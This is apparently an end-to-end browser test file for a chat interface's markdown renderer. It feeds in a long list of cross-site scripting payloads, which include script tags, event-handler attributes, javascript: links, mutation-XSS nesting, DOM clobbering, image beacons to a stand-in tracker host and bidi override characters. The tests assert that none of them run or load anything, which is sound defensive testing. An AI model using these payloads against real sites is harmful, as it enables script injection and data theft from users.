"""The model is untrusted: whatever it writes, nothing runs, nothing is loaded from elsewhere, nothing is restyled."""

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import Watch
from tests.e2e.workspace import Workspace

pytestmark = [pytest.mark.browser, pytest.mark.stack]

MARK = "window.hacked=1"
AWAY = "https://tracker.invalid"

PAYLOADS = [
    f"<script>{MARK}</script>",
    f"<ScRiPt src={AWAY}/a.js></sCrIpT>",
    f"<img src=x onerror={MARK}>",
    f"<img src={AWAY}/b.png>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<iframe src=javascript:parent.{MARK}></iframe>",
    f"<object data={AWAY}/c.swf></object>",
    f"<embed src={AWAY}/d>",
    f"<link rel=stylesheet href={AWAY}/e.css>",
    f"<style>@import '{AWAY}/f.css'; body{{display:none}}</style>",
    f'<div style="background:url({AWAY}/g)">x</div>',
    f"<base href={AWAY}/>",
    f'<meta http-equiv=refresh content="0;url={AWAY}/h">',
    f"<form action={AWAY}/i><input name=q autofocus onfocus={MARK}><button>go</button></form>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src={AWAY}/j.mp3 autoplay></audio>",
    f"<body onload={MARK}>",
    f"<input type=image src={AWAY}/k.png>",
    f"<a href=javascript:{MARK}>click</a>",
    f"[link](javascript:{MARK})",
    f"[link](JaVaScRiPt:{MARK})",
    f"[link](&#106;avascript:{MARK})",
    f"[link](java%0ascript:{MARK})",
    f"[link](data:text/html,<script>{MARK}</script>)",
    f"[link](vbscript:{MARK})",
    f"<javascript:{MARK}>",
    f"[ref]\n\n[ref]: javascript:{MARK}",
    f'[link](https://example.com "x" onmouseover={MARK})',
    f"![picture]({AWAY}/l.png?secret)",
    "![picture](//tracker.invalid/m.png)",
    "![picture](/\\tracker.invalid/n.png)",
    f"![picture][p]\n\n[p]: {AWAY}/o.png",
    f"![a]({AWAY}/p.png){{style=x}}",
    f'![x](x" onerror="{MARK})',
    f"[![picture]({AWAY}/q.png)]({AWAY}/r)",
    f"```html\n<script>{MARK}</script><img src={AWAY}/s.png>\n```",
    f'```"><img src=x onerror={MARK}>\ncode\n```',
    f"`<img src=x onerror={MARK}>`",
    f"$\\href{{javascript:{MARK}}}{{x}}$",
    f"$\\includegraphics{{{AWAY}/t.png}}$",
    f"$\\htmlStyle{{background:url({AWAY}/u)}}{{x}}$",
    f"$$<img src=x onerror={MARK}>$$",
    "$$\\def\\a{\\a\\a}\\a$$",
    f"| <img src=x onerror={MARK}> | b |\n|--|--|\n| <script>{MARK}</script> | ![y]({AWAY}/v.png) |",
    f"> <script>{MARK}</script>",
    f"- <svg/onload={MARK}>",
    f"<sub onclick={MARK}>x</sub>",
    f"<kbd><img src=x onerror={MARK}></kbd>",
    f"<!--><img src=x onerror={MARK}>-->",
    f"<![CDATA[<img src=x onerror={MARK}>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><img src=x onerror={MARK}></template>",
    f"<x-element onpointerenter={MARK}>x</x-element>",
    f'<a id=page-data name=trustedTypes href="{AWAY}">clobber</a>',
    "<form id=messages><input name=childElementCount></form>",
]

FORBIDDEN = (
    "script,iframe,object,embed,style,link,form,base,meta,video,audio,details,template,"
    "svg:not(.icon, .katex svg),button:not(.code-block__copy),input:not([type=checkbox])"
)


@pytest.fixture
def settled(workspace: Workspace) -> Workspace:
    """Each payload alone would be slow to ask: they come as one answer, streamed in small pieces."""
    corpus = "\n\n".join(f"{number}. case\n\n{payload}" for number, payload in enumerate(PAYLOADS))
    workspace.ask_and_wait("[[part:echo tokens_per_s=400]]" + corpus)
    return workspace


def test_no_payload_runs_loads_or_styles_anything(settled: Workspace, watch: Watch) -> None:
    for _ in range(2):
        assert settled.page.evaluate("window.hacked") is None
        assert watch.foreign == []
        assert [error for error in watch.errors if "Content Security" in error or "TrustedHTML" in error] == []
        expect(settled.body.locator(FORBIDDEN)).to_have_count(0)
        settled.page.reload()
        settled.wait_until_answered()


def test_no_address_runs_code_and_no_element_carries_a_handler_or_style(settled: Workspace) -> None:
    found = settled.body.evaluate(
        """body => [...body.querySelectorAll("*")].filter(element => !element.closest(".katex")).flatMap(element =>
            [...element.attributes].filter(attribute =>
                attribute.name.startsWith("on") || attribute.name === "style" || attribute.name === "id" ||
                attribute.name === "href" && !element.closest(".icon") ||
                attribute.name === "src" && !attribute.value.startsWith("/static/")
            ).map(attribute => `${element.tagName} ${attribute.name}=${attribute.value}`))"""
    )
    assert found == []


def test_each_payload_alone_is_harmless_however_it_is_cut(workspace: Workspace, watch: Watch) -> None:
    """Cut at every place, since a half tag may mean something else than a whole one."""
    workspace.page.evaluate(
        """async payloads => {
            const map = JSON.parse(document.querySelector("script[type=importmap]").textContent).imports;
            const { GrowingMarkdown } = await import(map["/static/js/markdown/blocks.js"]);
            for (const payload of payloads) {
                const root = document.createElement("div");
                root.className = "prose";
                document.querySelector("#scroller").append(root);
                const growing = new GrowingMarkdown(root);
                for (let end = 1; end <= payload.length; end++) {
                    growing.append(payload[end - 1]);
                    const place = document.createElement("div");
                    root.after(place);
                    const cut = new GrowingMarkdown(place);
                    cut.append(payload.slice(0, end));
                    cut.finish();
                    place.remove();
                }
                growing.finish();
            }
            await new Promise(resolve => setTimeout(resolve, 500));
        }""",
        PAYLOADS,
    )
    assert workspace.page.evaluate("window.hacked") is None
    assert watch.foreign == []


def test_direction_overrides_are_shown_instead_of_obeyed(workspace: Workspace) -> None:
    workspace.ask_and_wait("[[part:echo tokens_per_s=400]]if access == 'user\u202e \u2066// admin\u2069' `x\u202ey`")
    expect(workspace.body.locator(".bidi-mark")).to_have_text(["U+202E", "U+2066", "U+2069", "U+202E"])
    expect(workspace.questions.locator(".bidi-mark").first).to_have_text("U+202E")
    assert "\u202e" in workspace.source()
